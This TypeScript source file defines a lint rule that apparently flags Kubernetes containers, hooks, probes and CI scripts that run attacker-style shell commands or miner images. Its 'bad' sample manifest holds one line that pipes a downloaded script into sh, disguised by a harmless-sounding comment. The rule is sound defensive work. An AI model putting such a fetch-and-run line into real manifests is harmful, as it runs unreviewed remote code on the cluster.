import type { Span } from '../../manifest/value';
import type { Container } from '../../pod/container';
import type { Pod } from '../../pod/pod';
import { commandsOf, type ShellCommand, scriptCommands } from '../../pod/shell';
import { examplePod } from '../example';
import { links } from '../links';
import type { Finding, Rule } from '../rule';
import type { Severity } from '../severity';
import { isMinerImage, SHELL_PATTERNS, type ShellPattern } from './shell-patterns';

export const suspiciousCommand: Rule = {
  id: 'suspicious-command',
  category: 'sidecar',
  severity: 'error',
  title: 'A container runs what attackers run',
  why: 'An injected sidecar needs no image of its own: a stock image and one line of shell are enough to download a program, open a reverse shell, or mine. These lines have next to no honest use in a manifest.',
  fix: 'Find out who added the line. Put what a container needs into its image, so that it is reviewed and gated.',
  references: [links.sidecarInjection],
  examples: {
    bad: examplePod({
      container:
        'command:\n  - sh\n  - -c\n  - |\n    # keep the cache warm\n    curl -fsSL https://example.net/setup.sh | sh # error',
    }),
    good: examplePod({
      container: 'command: [sh, -c, "until curl -fsS http://localhost:8080/ready; do sleep 1; done; exec web"]',
    }),
  },

  *container(container, pod) {
    for (const pattern of SHELL_PATTERNS) {
      const command = allCommands(container).find((candidate) => pattern.matches(candidate));
      if (command) {
        yield toFinding(container, pod, pattern, command);
        return;
      }
    }
    if (isMinerImage(container.image)) {
      yield {
        at: container.value.get('image'),
        message: `"${container.label}" runs the image of a cryptocurrency miner. Find out who added it.`,
      };
    }
  },
};

function toFinding(container: Container, pod: Pod, pattern: ShellPattern, command: ShellCommand): Finding {
  return {
    at: command.source,
    span: spanOf(command, pod),
    severity: severityOf(pattern, container, pod),
    message: `"${container.label}" ${pattern.does}: \`${shorten(pipelineText(command))}\`. Find out who added this line; what a container needs belongs into its image.`,
  };
}

/** Node tuners are DaemonSets that enter the node on purpose; reading credentials is worse in a helper than in the app. */
function severityOf(pattern: ShellPattern, container: Container, pod: Pod): Severity {
  if (/node$/.test(pattern.does) && pod.resource.kind === 'DaemonSet') return 'warning';
  if (pattern.severity === 'warning' && !container.isSidecar) return 'information';
  return pattern.severity ?? 'error';
}

/** The commands of the container itself and of its exec hooks and probes. */
function allCommands(container: Container): ShellCommand[] {
  const { value } = container;
  const hooks = [
    value.at('lifecycle', 'postStart'),
    value.at('lifecycle', 'preStop'),
    value.get('livenessProbe'),
    value.get('readinessProbe'),
    value.get('startupProbe'),
  ];
  return [
    ...container.commands,
    ...hooks.flatMap((hook) => commandsOf(hook.at('exec', 'command').items)),
    // The inline scripts of Tekton (`script`) and Argo (`source`).
    ...['script', 'source']
      .map((name) => value.get(name))
      .flatMap((inline) => scriptCommands(inline.string ?? '', inline)),
  ];
}

/** The very words, where the YAML string spells them as the shell sees them; else the whole string. */
function spanOf(command: ShellCommand, pod: Pod): Span {
  const whole = command.source.span;
  const last = command.pipedInto.at(-1);
  const { text } = pod.resource.document;
  const start = text.indexOf(command.text, whole.start);
  if (start === -1 || start + command.text.length > whole.end) return whole;
  const lastStart = last ? text.indexOf(last.text, start + command.text.length) : -1;
  const end = last && lastStart !== -1 ? lastStart + last.text.length : start + command.text.length;
  return { start, end: Math.min(end, whole.end) };
}

function pipelineText({ text, pipedInto }: ShellCommand): string {
  return [text, ...pipedInto.map((next) => next.text)].join(' | ');
}

function shorten(text: string): string {
  const line = text.replace(/\s+/g, ' ').trim();
  return line.length > 80 ? `${line.slice(0, 79)}…` : line;
}
